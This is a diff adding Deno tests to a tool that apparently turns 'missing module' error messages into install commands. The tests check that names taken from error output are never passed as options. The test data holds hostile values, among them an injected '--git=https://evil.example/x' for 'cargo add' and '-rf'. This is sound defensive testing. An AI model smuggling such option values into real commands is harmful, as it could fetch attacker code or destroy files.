@@ -155,6 +155,41 @@ Deno.test("a missing name that is known is fetched, from where it is known", () 
   }
 });
 
+Deno.test("namesKnownOnly() refuses an option in a name's place, unless it was typed", () => {
+  const lines = ["error: unresolved import `--git=https://evil.example/x`"];
+  const option = "--git=https://evil.example/x";
+  assert(!namesKnownOnly(`cargo add ${option}`, { typed: "make", lines }));
+  assert(namesKnownOnly(`cargo add ${option}`, {
+    typed: `cargo add ${option}`,
+    lines,
+  }));
+  assert(
+    namesKnownOnly("npm install --frozen-lockfile", {
+      typed: "make",
+      lines: ["run it with --frozen-lockfile"],
+    }),
+  );
+});
+
+Deno.test("whatever name an error has, no command takes it for an option", () => {
+  for (const name of ["-Z", "-rf", "-v", "--git=https://evil.example/x"]) {
+    for (
+      const error of [
+        `error[E0432]: unresolved import \`${name}\`\n --> src/main.rs:1:5`,
+        `\`require': cannot load such file -- ${name} (LoadError)`,
+        `ModuleNotFoundError: No module named '${name}'`,
+        `error: Relative import path "${name}" not prefixed with / or ./ or ../`,
+        `main.go:4:2: no required module provides package ${name}; to add it:`,
+        `Warning  Failed  Failed to pull image "${name}": not found`,
+        `Error in library(${name}) : there is no package called '${name}'`,
+      ]
+    ) {
+      const next = nextOf(`$ make\t! ${error}`);
+      assert(isProse(next) || !next.split(" ").includes(name), error);
+    }
+  }
+});
+
 Deno.test("namesKnownOnly() takes what was asked for, unless that is said to be missing", () => {
   const asked = (command: string, typed: string, line = "") =>
     namesKnownOnly(command, { typed, lines: [line] });
